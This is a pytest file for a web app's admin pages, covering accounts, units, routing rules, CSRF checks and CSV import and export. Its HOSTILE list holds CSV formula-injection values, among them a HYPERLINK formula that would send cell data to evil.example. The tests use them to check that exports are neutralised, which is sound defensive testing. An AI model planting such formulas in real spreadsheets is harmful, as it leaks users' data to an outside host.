"""The admin pages as an administrator uses them: plain forms, answers 303 or the form again
with the reason, never a 500."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from sqlmodel import select

from app.models import Category, RoutingRule, StaffUser, Unit
from app.services import csvfile, registry
from tests.factories import csrf_token, log_in, login_as, make_staff


class Admin:
    """The logged-in administrator: their id and their session's CSRF token."""

    def __init__(self, user: StaffUser, token: str) -> None:
        self.id = user.id
        self.token = token


@pytest.fixture
def admin(client, session) -> Admin:  # type: ignore[no-untyped-def]
    user = login_as(client, session, "admin")
    return Admin(user, csrf_token(client, "/admin"))


def post(client, admin, url: str, **data: str):  # type: ignore[no-untyped-def]
    return client.post(url, data={"csrf_token": admin.token, **data}, follow_redirects=False)


def input_value(page: str, name: str) -> str | None:
    """The value the form's `name` input shows (None: no such input)."""
    tag = re.search(rf'<input[^>]*\bname="{name}"[^>]*>', page)
    if tag is None:
        return None
    value = re.search(r'\bvalue="([^"]*)"', tag.group(0))
    return html.unescape(value.group(1)) if value else ""


def test_the_overview_counts_and_says_where_mail_goes(client, admin):
    page = client.get("/admin")
    assert page.status_code == 200
    assert "No mail server is set up" in page.text and "stays in the outbox" in page.text
    assert "Waiting in the outbox" in page.text
    assert 'href="/admin"' in client.get("/staff").text  # the Admin link for admins


def test_an_admin_creates_a_unit_worker_who_can_then_log_in(client, admin, session, app):
    answer = post(
        client,
        admin,
        "/admin/users",
        email="Lamps@Boden.example",
        name="Lamp crew",
        role="unit_worker",
        unit="street-lighting",
        password="lamps at night 42",
    )
    assert answer.status_code == 303 and answer.headers["location"] == "/admin/users?notice=created"
    listed = client.get(answer.headers["location"]).text
    assert "lamps@boden.example" in listed and "Saved." in listed
    from fastapi.testclient import TestClient

    with TestClient(app) as other:
        assert log_in(other, "lamps@boden.example", "lamps at night 42").status_code == 303
        assert other.get("/triage").status_code == 200


@pytest.mark.parametrize(
    ("data", "status", "message"),
    [
        ({"role": "unit_worker", "unit": ""}, 422, "Unit staff need a unit."),
        ({"password": "short"}, 422, "at least 12 characters"),
        ({"role": "wizard"}, 422, "Choose a role from the list."),
        ({"email": "TAKEN@boden.example"}, 409, "already has an account"),
    ],
)
def test_a_wrong_account_form_comes_back_with_the_reason(
    client, admin, session, data, status, message
):
    make_staff(session, "planner", email="taken@boden.example")
    form = {"email": "new@boden.example", "name": "", "role": "planner", "unit": ""}
    form["password"] = "long enough password"
    typed = {**form, **data}
    answer = post(client, admin, "/admin/users", **typed)
    assert answer.status_code == status and message in answer.text
    # The form comes back with what was typed, so only the wrong field needs fixing.
    assert input_value(answer.text, "email") == typed["email"]
    assert input_value(answer.text, "password") == ""  # a password is never sent back


def test_a_deactivated_users_session_stops_working_at_once(client, admin, session, app):
    from fastapi.testclient import TestClient

    worker = make_staff(session, "triager")
    with TestClient(app) as other:
        assert log_in(other, worker.email).status_code == 303
        assert other.get("/triage").status_code == 200
        answer = post(client, admin, f"/admin/users/{worker.id}/active", active="false")
        assert answer.status_code == 303
        assert other.get("/triage", follow_redirects=False).status_code == 303  # to login
        assert log_in(other, worker.email).status_code == 401
    post(client, admin, f"/admin/users/{worker.id}/active", active="true")
    with TestClient(app) as again:
        assert log_in(again, worker.email).status_code == 303


def test_an_admin_cannot_deactivate_or_demote_themself(client, admin, session):
    answer = post(client, admin, f"/admin/users/{admin.id}/active", active="false")
    assert answer.status_code == 409 and "cannot deactivate your own account" in answer.text
    answer = post(client, admin, f"/admin/users/{admin.id}", name="Me", role="planner", unit="")
    assert answer.status_code == 409 and "own administrator role" in answer.text
    session.expire_all()
    me = session.get(StaffUser, admin.id)
    assert me.active and me.role == "admin"
    assert client.get("/admin").status_code == 200


def test_role_unit_and_password_are_changed_on_the_users_page(client, admin, session, app):
    from fastapi.testclient import TestClient

    worker = make_staff(session, "triager")
    page = client.get(f"/admin/users/{worker.id}")
    assert page.status_code == 200 and worker.email in page.text
    answer = post(
        client, admin, f"/admin/users/{worker.id}", name="Olle", role="unit_worker", unit="parks"
    )
    assert answer.status_code == 303
    session.expire_all()
    changed = session.get(StaffUser, worker.id)
    assert changed.role == "unit_worker" and changed.unit_id is not None
    with TestClient(app) as other:
        assert log_in(other, worker.email).status_code == 303
        assert (
            post(client, admin, f"/admin/users/{worker.id}/password", password="x").status_code
            == 422
        )
        reset = post(
            client, admin, f"/admin/users/{worker.id}/password", password="a new long secret"
        )
        assert reset.status_code == 303
        assert other.get("/triage", follow_redirects=False).status_code == 303  # session ended
        assert log_in(other, worker.email, "a new long secret").status_code == 303
    # Resetting one's own password keeps one's own session.
    assert (
        post(
            client, admin, f"/admin/users/{admin.id}/password", password="my own new secret"
        ).status_code
        == 303
    )
    assert client.get("/admin").status_code == 200


def test_units_categories_and_rules_are_created_changed_and_deleted(client, admin, session):
    answer = post(
        client, admin, "/admin/units", slug="snow", name_sv="Snöröjning", name_en="Snow", email=""
    )
    assert answer.status_code == 303
    unit = session.exec(select(Unit).where(Unit.slug == "snow")).one()
    bad = post(client, admin, f"/admin/units/{unit.id}", slug="Snow!", name_sv="", name_en="x")
    assert bad.status_code == 422 and "a-z, 0-9 and hyphens" in bad.text
    taken = post(client, admin, "/admin/units", slug="parks", name_sv="P", name_en="P")
    assert taken.status_code == 409 and "Another unit has that short name" in taken.text

    made = post(client, admin, "/admin/rules", category="vegetation", zone="heden", unit="snow")
    assert made.status_code == 303
    rule = session.exec(select(RoutingRule)).one()
    page = client.get("/admin/rules").text
    assert "Snow" in page and "Where new reports go now" in page
    in_use = post(client, admin, f"/admin/units/{unit.id}/delete")
    assert in_use.status_code == 409 and "1 rule" in in_use.text
    twin = post(client, admin, "/admin/rules", category="vegetation", zone="heden", unit="parks")
    assert twin.status_code == 409 and "already a rule" in twin.text
    changed = post(
        client, admin, f"/admin/rules/{rule.id}", category="vegetation", zone="heden", unit="parks"
    )
    assert changed.status_code == 303
    assert post(client, admin, f"/admin/rules/{rule.id}/delete").status_code == 303
    assert post(client, admin, f"/admin/units/{unit.id}/delete").status_code == 303

    category = post(
        client,
        admin,
        "/admin/categories",
        slug="ice",
        name_sv="Halka",
        name_en="Ice",
        icon="path-cracked",
        kind="problem",
        position="30",
        default_unit="streets",
    )
    assert category.status_code == 303
    assert "Ice" in client.get("/admin/categories").text
    assert "inactive" in client.get("/admin/categories").text  # the box was not ticked


def test_unknown_ids_are_404(client, admin):
    for path in (
        "/admin/users/999999",
        "/admin/units/999999",
        "/admin/categories/999999",
        "/admin/rules/999999",
    ):
        assert client.get(path).status_code == 404
    assert post(client, admin, "/admin/rules/999999/delete").status_code == 404
    assert client.get("/admin/units/99999999999999999999").status_code == 422
    assert client.get("/admin/export/zones").status_code == 422


def test_csv_download_and_a_bad_upload_gets_a_clear_message(client, admin, session):
    download = client.get("/admin/export/rules")
    assert download.status_code == 200 and download.text.startswith("category,zone,unit")
    assert "attachment" in download.headers["content-disposition"]

    def upload(kind: str, data: bytes, **form: str):  # type: ignore[no-untyped-def]
        return client.post(
            f"/admin/import/{kind}",
            data={"csrf_token": admin.token, **form},
            files={"file": ("x.csv", data, "text/csv")},
        )

    bad = upload("rules", b"category,zone,unit\nvegetation,nowhere,parks\n")
    assert bad.status_code == 422 and "Nothing was imported" in bad.text
    assert "Line 2:" in bad.text and "nowhere" in bad.text
    binary = upload("units", b"\x89PNG\r\n\x1a\n\x00\x00")
    assert binary.status_code == 422 and "not UTF-8" in binary.text
    none = client.post("/admin/import/units", data={"csrf_token": admin.token})
    assert none.status_code == 422 and "Choose a CSV file" in none.text

    good = b"category,zone,unit\nvegetation,savast,property-owner\n"
    preview = upload("rules", good, dry_run="true")
    assert preview.status_code == 200 and "Preview only" in preview.text and "1 new" in preview.text
    assert session.exec(select(RoutingRule)).first() is None
    done = upload("rules", good)
    assert done.status_code == 200 and "Imported." in done.text
    assert session.exec(select(RoutingRule)).first() is not None


def test_forms_without_the_csrf_token_are_refused(client, admin):
    answer = client.post("/admin/units", data={"slug": "x", "name_sv": "x", "name_en": "x"})
    assert answer.status_code == 403 and "This form has expired" in answer.text


@pytest.mark.parametrize("role", ["triager", "unit_worker", "walk_leader", "planner"])
def test_other_roles_get_403_and_no_admin_link(client, session, role):
    login_as(client, session, role, unit="parks" if role == "unit_worker" else None)
    assert client.get("/admin/users").status_code == 403
    assert 'href="/admin"' not in client.get("/staff").text


def test_anonymous_visitors_are_sent_to_login(client):
    answer = client.get("/admin/rules", follow_redirects=False)
    assert (
        answer.status_code == 303 and answer.headers["location"] == "/login?next=%2Fadmin%2Frules"
    )


@pytest.mark.parametrize("kind", list(registry.KINDS))
def test_every_kind_has_its_list_edit_and_csv_pages(client, admin, session, kind):
    registry.save(session=session, kind="rules", raw={"category": "", "zone": "", "unit": "parks"})
    listed = client.get(f"/admin/{kind}")
    assert listed.status_code == 200 and f'action="/admin/{kind}"' in listed.text
    row = registry.KINDS[kind].listed(session)[0]
    page = client.get(f"/admin/{kind}/{row.id}")
    assert page.status_code == 200
    assert f'action="/admin/{kind}/{row.id}/delete"' in page.text
    first_text = next(
        (c for c in registry.KINDS[kind].columns if input_value(page.text, c) is not None), None
    )
    if first_text:  # the edit form shows the row as the CSV has it
        shown = registry.row_values(session=session, kind=kind, row=row)[first_text]
        assert input_value(page.text, first_text) == shown
    download = client.get(f"/admin/export/{kind}")
    assert download.status_code == 200
    assert download.text.splitlines()[0] == ",".join(registry.KINDS[kind].columns)


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+46 70 123", "-1+2", "@SUM(A1:A9)"]


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run as a formula."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(csvfile.FORMULA_STARTS)]


def upload(client, admin, kind: str, data: bytes):  # type: ignore[no-untyped-def]
    return client.post(
        f"/admin/import/{kind}",
        data={"csrf_token": admin.token},
        files={"file": ("x.csv", data, "text/csv")},
    )


def test_a_csv_export_with_hostile_names_opens_as_text_and_imports_back_unchanged(
    client, admin, session
):
    for n, name in enumerate(HOSTILE):
        answer = post(
            client,
            admin,
            "/admin/units",
            slug=f"hostile-{n}",
            name_sv=name,
            name_en=name,
            department_sv=name,
            email="",
        )
        assert answer.status_code == 303
    made = post(
        client,
        admin,
        "/admin/categories",
        slug="minus",
        name_sv="-x",
        name_en="=1+1",
        icon="dots",
        kind="problem",
        position="-5",
        active="true",
    )
    assert made.status_code == 303

    for kind in ("units", "categories"):
        download = client.get(f"/admin/export/{kind}")
        assert formula_cells(download.text) == []
        assert "'=1+1" in download.text or kind == "units"
        assert "'@SUM(A1:A9)" in download.text or kind == "categories"
        again = upload(client, admin, kind, download.content)
        assert again.status_code == 200 and "Imported." in again.text
        assert "0 new, 0 changed" in again.text
        assert client.get(f"/admin/export/{kind}").text == download.text
    session.expire_all()
    units = {u.slug: u for u in registry.units(session=session)}
    assert [units[f"hostile-{n}"].name_sv for n in range(len(HOSTILE))] == HOSTILE
    assert [units[f"hostile-{n}"].department_sv for n in range(len(HOSTILE))] == HOSTILE
    minus = session.exec(select(Category).where(Category.slug == "minus")).one()
    assert (minus.name_sv, minus.name_en, minus.position) == ("-x", "=1+1", -5)


def test_a_leading_tab_from_elsewhere_is_protected_on_export_and_refused_on_import(
    client, admin, session
):
    # A form or a file trims its fields, so only another way in leaves a leading tab.
    parks = session.exec(select(Unit).where(Unit.slug == "parks")).one()
    parks.department_en = "\t=1+1"
    session.add(parks)
    session.commit()
    download = client.get("/admin/export/units")
    assert formula_cells(download.text) == [] and "'\t=1+1" in download.text
    # A control character in a name is refused by the one input rule, with its line.
    again = upload(client, admin, "units", download.content)
    assert again.status_code == 422 and "department_en" in again.text
    session.expire_all()
    assert session.get(Unit, parks.id).department_en == "\t=1+1"  # nothing half-imported


def test_wrong_kinds_and_wrong_fields_get_a_clear_4xx(client, admin, session):
    # "zones" has its own pages (admin_zones): it is not a CSV kind, as "places" is none.
    assert client.get("/admin/places").status_code == 422
    assert post(client, admin, "/admin/places", slug="x").status_code == 422
    assert post(client, admin, "/admin/zones", slug="x").status_code == 422
    assert client.get("/admin/units/0").status_code == 422
    long = post(client, admin, "/admin/units", slug="long", name_sv="x" * 401, name_en="x")
    assert long.status_code == 422
    sneaky = client.post(
        "/admin/units",
        data={"csrf_token": admin.token, "slug": "file", "name_en": "x"},
        files={"name_sv": ("a.txt", b"Namn", "text/plain")},
        follow_redirects=False,
    )
    assert sneaky.status_code == 422 and "This field is required." in sneaky.text
    # NUL and other control characters are never meant (and PostgreSQL refuses NUL): the one
    # input rule refuses them with the field's name, and nothing is stored.
    nul = post(
        client, admin, "/admin/units", slug="nul", name_sv="Gat\x00or", name_en="Str\x07eets"
    )
    assert nul.status_code == 422 and "name_sv" in nul.text
    assert session.exec(select(Unit).where(Unit.slug == "nul")).first() is None
